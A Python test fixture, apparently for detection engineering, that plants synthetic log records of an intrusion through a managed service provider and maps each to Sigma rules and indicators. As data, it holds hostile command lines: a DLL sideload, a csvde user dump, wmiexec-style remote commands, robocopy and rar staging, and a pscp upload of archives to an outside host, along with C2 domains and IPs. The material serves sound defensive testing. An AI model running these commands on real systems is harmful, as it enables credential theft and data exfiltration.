# SPDX-License-Identifier: Apache-2.0
"""What the intruder did, record by record, with the rules and indicators that each record is meant to meet."""
from datetime import datetime, timezone

from world import process, trail, vpn

DOMAIN, DOMAIN2, ADDRESS = "area.wthelpdesk.com", "scorpion.poulsenv.com", "185.117.88.77"
REUSED = "52.74.213.16"  # a cloud address: valid until the end of 2017 in our list, somebody else's afterwards
LIBRARY = "001B8F696B6576798517168CD0A0FB44"
RECOVERY = "indicator:path:c:\\recovery\\"
LATE_DOMAIN = "trout.belowto.com"  # comes with the STIX bundle
STIX = "indicator:indicator--7c0ffee0-2016-4000-8000-000000000101"
RULE = {name: f"sigma:7c0ffee0-2016-4000-8000-0000000000{number:02d}" for number, name in enumerate(
    "vpn logon csvde wmi archive robocopy pscp sideload upload role explicit ticket post tls".split(), 1)}


class Plant:
    def __init__(self, tenant, source, when, fields, fires, inside=True):
        stamp = datetime.fromisoformat(when).replace(tzinfo=timezone.utc).timestamp()
        self.tenant, self.source, self.time_ms, self.fields = tenant, source, int(stamp) * 1000 + 123, fields
        self.fires, self.inside, self.path, self.member = fires, inside, None, None


def plants():
    rows = []

    def add(tenant, source, when, fields, *fires, inside=True):
        rows.append(Plant(tenant, source, when, fields, list(fires), inside))

    def run(tenant, when, image, line, parent, *fires):
        add(tenant, "sysmon", when, (1, process(image, line, parent, "svc-backup", f"{len(rows):032X}")), *fires)

    cmd, wmi = "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
    bin_ = "D:\\$RECYCLE.BIN\\S-1-5-21-7\\"
    add("msp-north", "sysmon", "2016-11-14T09:12:00", (7, {
        "Image": "C:\\Recovery\\MsMpEng.exe", "ImageLoaded": "C:\\Recovery\\mpsvc.dll", "Hashes": "MD5=" + LIBRARY,
        "Signed": "false"}), RULE["sideload"], "indicator:md5:" + LIBRARY.lower(),
        RECOVERY + "msmpeng.exe", RECOVERY + "mpsvc.dll")
    for day in ("2016-11-15", "2016-12-20", "2017-01-17", "2017-02-21", "2017-03-21", "2017-04-18", "2017-05-16"):
        me = "10.20.1.17", 50111
        add("msp-north", "dns", day + "T02:17:00", (*me, "10.20.0.53", 53, "udp", f"{DOMAIN}\tA\tNOERROR\t198.51.100.9"),
            "indicator:domain:" + DOMAIN)
        add("msp-north", "conn", day + "T02:17:01", (*me, ADDRESS, 443, "tcp", "ssl\t12.000000\t900\t1200\tSF"),
            "indicator:ipv4:" + ADDRESS)
        add("msp-north", "ssl", day + "T02:17:02", (*me, "198.51.100.9", 443, "tcp",
            f"TLSv12\tTLS_RSA_WITH_AES_128_CBC_SHA\t{DOMAIN2}\tT"), "indicator:domain:" + DOMAIN2, RULE["tls"])
        add("msp-north", "http", day + "T02:17:03", (*me, "203.0.113.80", 80, "tcp",
            "POST\t203.0.113.80\t/index.php\tMozilla/4.0 (compatible; MSIE 8.0)\t200"), RULE["post"])
    run("msp-north", "2016-12-05T01:40:00", "C:\\Recovery\\csvde.exe", "csvde.exe -f C:\\Recovery\\users.csv", cmd, RULE["csvde"],
        RECOVERY + "csvde.exe")
    # Lantern's sessions lie in the month that its own logs lack: the provider's log alone shows them.
    for customer, month, days in (("orchard", "2017-01", 6), ("harbour", "2017-02", 7), ("lantern", "2017-03", 5)):
        for n in range(days):
            when = f"{month}-{3 + 3 * n:02d}T23:{10 + n}"
            add("msp-north", "vpn", when + ":00", vpn("svc-backup", "203.0.113.7", f"10.20.0.{14 + n}", "success", customer),
                RULE["vpn"])
            add("msp-north", "security", when + ":20", (4648, {"SubjectUserName": "user07", "TargetUserName": "svc-backup",
                "TargetServerName": f"dc1.{customer}.example", "ProcessName": cmd}), RULE["explicit"])
            if customer != "lantern":
                add(customer, "security", when + ":40", (4624, {"TargetUserName": "svc-backup", "LogonType": "3",
                    "IpAddress": f"10.20.0.{14 + n}"}), RULE["logon"])
                add(customer, "security", when + ":38", (4769, {"TargetUserName": "svc-backup@CORP.EXAMPLE",
                    "ServiceName": "FILES$", "TicketEncryptionType": "0x17", "IpAddress": f"::ffff:10.20.0.{14 + n}"}),
                    RULE["ticket"])
                run(customer, when + ":55", cmd, "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__148 2>&1", wmi, RULE["wmi"])
    for n in range(4):
        day = f"2017-04-{10 + n}T03:"
        run("quarry", day + "00:00", "C:\\Windows\\System32\\robocopy.exe", f"robocopy \\\\10.31.1.20\\d$\\plans {bin_}p /E", cmd,
            RULE["robocopy"])
        run("quarry", day + "30:00", "C:\\PerfLogs\\rar.exe", f"rar.exe a -m5 -v200m {bin_}p{n}.rar {bin_}p", cmd, RULE["archive"])
        day = f"2017-05-{10 + n}T04:"
        run("meadow", day + "00:00", "C:\\PerfLogs\\pscp.exe", f"pscp.exe -pw x C:\\PerfLogs\\p{n}.rar root@203.0.113.44:/tmp/",
            cmd, RULE["pscp"])
        add("meadow", "conn", day + "00:05", ("10.35.1.9", 50222, "203.0.113.44", 22, "tcp",
            f"ssh\t600.000000\t{200000000 + n}\t90000\tSF"), RULE["upload"])
    for n in range(3):
        add("meadow", "dns", f"2017-05-{15 + n}T04:40:00", ("10.35.1.9", 50223, "10.35.0.53", 53, "udp",
            f"{LATE_DOMAIN}\tA\tNOERROR\t198.51.100.23"), STIX)
        add("meadow", "cloudtrail", f"2017-05-{20 + n}T05:00:00", trail("AssumeRole", "sts.amazonaws.com", "203.0.113.19",
            "msp-north-operations"), RULE["role"])
        add("willow", "conn", f"2018-01-{10 + n}T10:00:00", ("10.36.1.9", 50333, REUSED, 443, "tcp",
            "ssl\t3.000000\t500\t9000\tSF"), "indicator:ipv4:" + REUSED, inside=False)
    return rows
